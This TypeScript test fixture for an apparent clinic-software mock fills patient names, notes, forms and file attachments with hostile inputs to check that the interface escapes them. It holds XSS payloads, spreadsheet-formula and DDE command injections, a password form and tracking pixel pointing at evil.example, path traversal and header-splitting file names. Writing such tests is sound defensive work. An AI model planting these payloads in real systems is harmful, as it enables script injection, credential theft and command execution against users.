import { dateIn, linkedId, type TreatmentNoteContent } from '@cliniko/core'
import type { Mock } from '@cliniko/mock'
import { attach } from './attachments'
import { zone } from './opening'
import { isoOf } from './stage'

type Store = Mock['store']

/** Set by each script of these records that runs. A test reads it from the page. */
export const trap = 'hostileScriptRan'

const run = `window.${trap}=1`

/** First and last names. They stand in for what a web form or an import may bring. */
export const hostileNames = [
  [`<img src=x onerror="${run}">`, 'Image'],
  [`<script>${run}</script>`, 'Script'],
  [`"><svg onload="${run}">`, 'Quote'],
  ['=HYPERLINK("https://evil.example","Open")', 'Formula'],
  ["+cmd|' /C calc'!A0", 'Plus'],
  ['-2+3', 'Minus'],
  ['@SUM(1+1)', 'At'],
  ['\t=1+1', 'Tab'],
  ['\u202Egnp.exe', 'Override'],
  ['a\u200Bb\u200Dc\uFEFF', 'Invisible'],
  ['A\nB', 'Newline'],
  [
    'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d',
    'Marks',
  ],
  ['W'.repeat(240), 'Long'],
  ['Word '.repeat(60).trim(), 'Words'],
  ['{{constructor.constructor("return 1")()}}', 'Template'],
  ['__proto__', 'constructor'],
] as const

/** HTML of notes, forms and messages. */
export const hostileHtml = [
  `<script>${run}</script>Sore.`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text x="20" y="20">picture</text></a></svg>`,
  `<a href="javascript:${run}">exercise sheet</a>`,
  `<a href=" java\nscript:${run}">second sheet</a>`,
  `<a href="data:text/html,<script>${run}</script>">third sheet</a>`,
  `<iframe srcdoc="<script>parent.${trap}=1</script>"></iframe>`,
  `<details open ontoggle="${run}"><summary>More</summary></details>`,
  `<form action="https://evil.example"><input name="password" autofocus onfocus="${run}"></form>`,
  '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<div style="position:fixed;inset:0;background:red;z-index:9999">over everything</div>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  '<img src="https://evil.example/pixel.gif">',
  '<p>Never closed <b>and <i>wrongly</b> nested</i>',
] as const

/** Names of files, with types that lie about what is in them. */
export const hostileFiles = [
  ['../../etc/passwd.html', 'text/html'],
  [`<img src=x onerror="${run}">.png`, 'image/png'],
  ['C:\\Windows\\con.pdf', 'application/pdf'],
  ['\u202Efdp.exe', 'application/octet-stream'],
  ['picture.svg', 'image/svg+xml'],
  ['=1+1.csv', 'text/csv'],
  ['a"; filename="b.html', 'text/html'],
  [`${'long '.repeat(50)}.pdf`, 'application/pdf'],
] as const

/** Writes hostile records over those of the first patients with an appointment today, so that each screen shows some. */
export function setHostileScene(mock: Mock): void {
  const { store } = mock
  store.within(() => {
    const patientIds = patientsOfToday(mock)
    for (const [index, patientId] of patientIds.entries()) {
      const html = hostileHtml[index % hostileHtml.length] ?? ''
      const [first, last] = hostileNames[index % hostileNames.length] ?? hostileNames[0]
      rename(store, patientId, first, last)
      writeTexts(store, patientId, html)
      giveRecords(store, patientId, index, html)
    }
    writeSetup(store)
    attachFiles(mock, patientIds)
  })
}

/** Returns the ids of one patient for each hostile text. */
function patientsOfToday({ store, now }: Mock): string[] {
  const today = dateIn(now().getTime(), zone)
  const ids = new Set<string>()
  for (const { starts_at, cancelled_at, patient } of store.tables.individual_appointments.peeks()) {
    const id = linkedId(patient)
    if (id && !cancelled_at && dateIn(starts_at, zone) === today) ids.add(id)
  }
  return [...ids].slice(0, hostileNames.length)
}

function rename({ tables }: Store, patientId: string, first: string, last: string): void {
  const label = `${first} ${last}`
  const patient = tables.patients.get(patientId)
  if (patient)
    Object.assign(patient, { first_name: first, last_name: last, preferred_first_name: first, title: null, label })
  for (const appointment of tables.individual_appointments.by('patient_id', patientId)) appointment.patient_name = label
  for (const invoice of tables.invoices.by('patient_id', patientId)) invoice.invoice_to = label
}

function writeTexts({ tables }: Store, patientId: string, html: string): void {
  const patient = tables.patients.get(patientId)
  if (patient) {
    Object.assign(patient, {
      address_1: html,
      appointment_notes: html,
      emergency_contact: html,
      invoice_extra_information: html,
      notes: html,
      occupation: html,
    })
  }
  for (const appointment of tables.individual_appointments.by('patient_id', patientId)) {
    appointment.notes = html
    appointment.has_patient_appointment_notes = true
    if (appointment.cancelled_at) appointment.cancellation_note = html
  }
  for (const invoice of tables.invoices.by('patient_id', patientId)) invoice.notes = html
}

/** Gives the patient an alert, a note, a form, a message and a case that were somebody else's, with hostile texts. */
function giveRecords({ tables, link }: Store, patientId: string, index: number, html: string): void {
  const patient = link('patients', patientId)
  const alert = nth(tables.medical_alerts, index)
  if (alert) Object.assign(alert, { patient, name: html })
  const note = nth(tables.treatment_notes, index)
  if (note) {
    Object.assign(note, { patient, title: html, content: contentOf(html), archived_at: null })
    delete note.booking
    delete note.attendee
  }
  const form = nth(tables.patient_forms, index)
  if (form) {
    Object.assign(form, { patient, name: html, content: contentOf(html), archived_at: null })
    delete form.booking
    delete form.attendee
  }
  const message = nth(tables.communications, index)
  if (message) Object.assign(message, { patient, content: html })
  const record = nth(tables.patient_cases, index)
  if (record) Object.assign(record, { patient, name: html, notes: html })
}

function nth<T>(table: { keys(): Iterable<string>; get(id: string): T | undefined }, index: number): T | undefined {
  return table.get([...table.keys()][index] ?? '')
}

/** Returns the content of a note or form with one question that has a hostile answer. */
function contentOf(html: string): TreatmentNoteContent {
  return {
    sections: [{ name: html, description: html, questions: [{ name: html, type: 'paragraph', answer: html }] }],
  }
}

/** Writes hostile names into what the clinic was set up with. */
function writeSetup({ tables }: Store): void {
  const [html] = hostileHtml
  for (const table of [
    tables.products,
    tables.billable_items,
    tables.appointment_types,
    tables.treatment_note_templates,
  ]) {
    const first = nth<{ name: string | null }>(table, 0)
    if (first) first.name = html
  }
  for (const block of tables.unavailable_blocks.values()) block.notes = html
}

function attachFiles(mock: Mock, patientIds: readonly string[]): void {
  const bytes = new TextEncoder().encode(
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`,
  )
  const uploadedAt = isoOf(mock.now().getTime() - 86_400_000)
  for (const patientId of patientIds.slice(0, 2)) {
    for (const [filename, contentType] of hostileFiles) {
      attach({ mock }, patientId, { filename, contentType, bytes, description: filename, uploadedAt })
    }
  }
}
